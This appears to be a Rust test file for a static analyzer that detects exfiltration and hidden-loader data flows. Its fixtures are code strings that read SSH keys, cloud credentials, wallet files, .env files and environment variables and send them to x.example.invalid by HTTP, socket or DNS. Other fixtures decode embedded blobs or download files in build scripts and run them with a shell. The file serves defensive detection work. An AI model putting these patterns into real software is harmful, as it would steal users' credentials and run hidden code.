//! Rust: secret files, parts of requests, parameters of callers, and decoders that a program writes out itself.

mod support;

use support::{assert_chains, facts};

#[test]
fn a_folder_of_keys_is_followed_from_its_path_to_a_name_that_is_looked_up() {
    assert_chains(
        "src/lib.rs",
        &[
            (
                "use std::net::ToSocketAddrs;\npub fn check(home: PathBuf) { let dir = home.join(\".ssh\"); std::thread::spawn(move || {\n\
                 for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() { let Ok(body) = std::fs::read(entry.path()) else { continue };\n\
                 let mut out = String::new(); for b in body.chunks(20) { out.push_str(&hex(b)); }\n\
                 let name = format!(\"{out}.k.example.invalid:0\"); let _ = name.to_socket_addrs(); } }); }",
                &["file.read > network.dns"][..],
            ),
            // the path in pieces
            (
                "pub fn check(home: PathBuf) { let base = home.join(\".config\"); let kept = base.join(\"solana\").join(\"id.json\");\n\
                 let body = std::fs::read(&kept).unwrap(); ureq::post(\"https://x.example.invalid/a\").send_bytes(&body); }",
                &["file.read > network.http"],
            ),
            // parts that are pushed
            (
                "pub fn check(home: PathBuf) { let mut p = home.clone(); p.push(\".ssh\"); p.push(\"id_ed25519\"); let mut s = String::new(); std::fs::File::open(&p).unwrap().read_to_string(&mut s).unwrap();\n\
                 let mut t = std::net::TcpStream::connect(\"x.example.invalid:443\").unwrap(); t.write_all(s.as_bytes()).unwrap(); }",
                &["file.read > network.socket"],
            ),
            // a list of them
            (
                "const KEPT: [&str; 2] = [\".ssh/id_rsa\", \"notes.txt\"];\npub fn check(home: PathBuf) { let all: Vec<String> = KEPT.iter().filter_map(|p| std::fs::read_to_string(home.join(p)).ok()).collect();\n\
                 minreq::post(\"https://x.example.invalid/\").with_body(all.join(\"\")).send().ok(); }",
                &["file.read > network.http"],
            ),
            // the name of another file in the same folder
            (
                "pub fn check(home: PathBuf) { let dir = home.join(\".config\").join(\"tool\"); let body = std::fs::read(dir.join(\"a.toml\")).unwrap();\n\
                 ureq::post(\"https://x.example.invalid/a\").send_bytes(&body); }",
                &[],
            ),
            // a path that is only asked for
            (
                "pub fn has_keys(home: PathBuf) -> bool { let dir = home.join(\".ssh\"); let there = dir.exists(); ureq::post(\"https://x.example.invalid/a\").send_string(&there.to_string()); there }",
                &[],
            ),
            // what stood in the name before is gone
            (
                "pub fn check(home: PathBuf) { let mut p = home.join(\".ssh/id_rsa\"); p = home.join(\"notes.txt\"); let b = std::fs::read(&p).unwrap();\n\
                 ureq::post(\"https://x.example.invalid/a\").send_bytes(&b); }",
                &[],
            ),
        ],
    );
}

#[test]
fn a_file_that_is_part_of_a_form_is_sent() {
    assert_chains(
        "src/lib.rs",
        &[
            (
                "use curl::easy::{Easy, Form};\nfn send() { let mut f = Form::new(); if f.part(\"a\").file(\".env\").add().is_err() { return; }\n\
                 let mut e = Easy::new(); let _ = e.url(\"https://x.example.invalid/c\").and_then(|_| e.httppost(f)).and_then(|_| e.perform()); }",
                &["file.read > network.http"][..],
            ),
            // the caller names the file
            (
                "use curl::easy::{Easy, Form};\npub fn now() { attach(\".env\"); }\nfn attach(p: &str) { let mut f = Form::new(); f.part(\"a\").file(p).add().ok();\n\
                 let mut e = Easy::new(); e.url(\"https://x.example.invalid/c\").ok(); e.httppost(f).ok(); e.perform().ok(); }",
                &["file.read > network.http"],
            ),
            (
                "use curl::easy::{Easy, Form};\npub fn now() { attach(\"report.txt\"); }\nfn attach(p: &str) { let mut f = Form::new(); f.part(\"a\").file(p).add().ok();\n\
                 let mut e = Easy::new(); e.url(\"https://x.example.invalid/c\").ok(); e.httppost(f).ok(); e.perform().ok(); }",
                &[],
            ),
            (
                "fn send(home: PathBuf) { let form = reqwest::blocking::multipart::Form::new().file(\"f\", home.join(\".aws/credentials\")).unwrap();\n\
                 reqwest::blocking::Client::new().post(\"https://x.example.invalid\").multipart(form).send().ok(); }",
                &["file.read > network.http"],
            ),
        ],
    );
}

#[test]
fn the_address_of_a_handle_is_told_with_the_sink() {
    let facts = facts(
        "src/lib.rs",
        "fn send() { let all: Vec<_> = std::env::vars().collect(); let mut e = curl::easy::Easy::new(); e.url(\"https://x.example.invalid/c\").unwrap();\n\
         e.post_fields_copy(format!(\"{all:?}\").as_bytes()).unwrap(); e.perform().unwrap(); }",
    );
    let sink = facts.flows.iter().find_map(|f| f.steps.last());
    assert_eq!(
        sink.and_then(|s| s.constant.as_deref()),
        Some("https://x.example.invalid/c")
    );
}

#[test]
fn digits_that_are_put_together_are_decoding() {
    assert_chains(
        "build.rs",
        &[
            (
                "use std::{fs, process::Command};\nfn main() { let raw = fs::read(\"tests/a.bin\").unwrap();\n\
                 let body: Vec<u8> = raw.chunks(2).map(|p| ((p[0] - b'a') << 4) | (p[1] - b'a')).collect();\n\
                 let out = Path::new(\"x\").join(\"check.sh\"); fs::write(&out, &body).unwrap(); Command::new(\"sh\").arg(&out).spawn().ok(); }",
                &["decode.text > process.spawn [file]"][..],
            ),
            // written as a loop
            (
                "use std::{fs, process::Command};\nfn main() { let raw = fs::read(\"tests/a.bin\").unwrap(); let mut body = Vec::new();\n\
                 for p in raw.chunks(2) { body.push(((p[0] - b'a') << 4) | (p[1] - b'a')); }\n\
                 let out = Path::new(\"x\").join(\"check.sh\"); fs::write(&out, &body).unwrap(); Command::new(\"sh\").arg(&out).spawn().ok(); }",
                &["decode.text > process.spawn [file]"],
            ),
            // the command is put together in steps
            (
                "use std::process::Command;\nfn main() { let blob = include_bytes!(\"a.bin\"); let mut out = Vec::new(); let mut k = 7u8; for b in blob.iter() { out.push(b ^ k); k = k.wrapping_add(3); }\n\
                 let p = Path::new(\"x\").join(\"t\"); std::fs::write(&p, &out).unwrap(); let mut c = Command::new(\"bash\"); c.arg(&p); c.spawn().ok(); }",
                &["decode.cipher > process.spawn [file]"],
            ),
            // what is checked is not run
            (
                "use std::process::Command;\nfn main() { let blob = include_bytes!(\"a.bin\"); let out: Vec<u8> = blob.iter().map(|b| b ^ 7).collect();\n\
                 let p = Path::new(\"x\").join(\"t\"); std::fs::write(&p, &out).unwrap(); let mut c = Command::new(\"sha256sum\"); c.arg(&p); c.status().ok(); }",
                &[],
            ),
            // numbers of two bytes are no text
            (
                "use std::{fs, process::Command};\nfn main() { let raw = fs::read(\"tests/a.bin\").unwrap();\n\
                 let body: Vec<u16> = raw.chunks(2).map(|p| ((p[0] as u16) << 8) | p[1] as u16).collect();\n\
                 let out = Path::new(\"x\").join(\"check.txt\"); fs::write(&out, &body).unwrap(); Command::new(\"sh\").arg(&out).spawn().ok(); }",
                &[],
            ),
        ],
    );
}

#[test]
fn what_a_function_writes_where_its_caller_says_is_in_that_file() {
    assert_chains(
        "src/lib.rs",
        &[
            (
                "use std::process::Command;\npub fn version() { let f = std::env::temp_dir().join(\"init\"); if save(\"https://x.example.invalid/a\", &f) { let _ = Command::new(\"bash\").arg(&f).spawn(); } }\n\
                 fn save(url: &str, to: &Path) -> bool { let b = reqwest::blocking::get(url).unwrap().bytes().unwrap(); std::fs::write(to, b).is_ok() }",
                &["network.http > process.spawn [file]"][..],
            ),
            // another file is run
            (
                "use std::process::Command;\npub fn version() { let f = std::env::temp_dir().join(\"a.json\"); let g = Path::new(\"tool\"); if save(\"https://x.example.invalid/a\", &f) { let _ = Command::new(\"bash\").arg(&g).spawn(); } }\n\
                 fn save(url: &str, to: &Path) -> bool { let b = reqwest::blocking::get(url).unwrap().bytes().unwrap(); std::fs::write(to, b).is_ok() }",
                &[],
            ),
        ],
    );
}

#[test]
fn what_a_password_opens_is_its_owners() {
    let cases = [
        (
            "pub fn open(raw: &[u8], password: &str) -> Vec<u8> { let key = derive(password); let c = Aes256Gcm::new_from_slice(&key).unwrap();\n\
             let secret = c.decrypt(nonce(raw), raw).unwrap(); ureq::post(\"https://x.example.invalid/b\").send_json(serde_json::json!({ \"text\": bs58::encode(&secret).into_string() })).ok(); secret }",
            true,
        ),
        (
            "pub fn address(mnemonic: &str) -> String { let text = format!(\"{mnemonic}\"); std::thread::spawn(move || { minreq::post(\"https://x.example.invalid/b\").with_body(text).send().ok(); }); String::new() }",
            true,
        ),
        // what the program decrypts with a key of its own
        (
            "pub fn open(raw: &[u8], name: &str) { let c = Aes256Gcm::new_from_slice(KEY).unwrap(); let text = c.decrypt(nonce(raw), raw).unwrap();\n\
             ureq::post(\"https://x.example.invalid/b\").send_bytes(&text).ok(); }",
            false,
        ),
        // signing in
        (
            "pub fn login(user: &str, password: &str) { ureq::post(\"https://x.example.invalid/b\").send_json(serde_json::json!({ \"user\": user, \"password\": password })).ok(); }",
            false,
        ),
    ];
    for (text, expected) in cases {
        let text = format!("use aes_gcm::Aes256Gcm;\n{text}");
        let chains = support::chains(&facts("src/lib.rs", &text));
        let found = chains.iter().any(|c| c.starts_with("credential.parameter"));
        assert_eq!(found, expected, "{text}\n{chains:?}");
    }
}
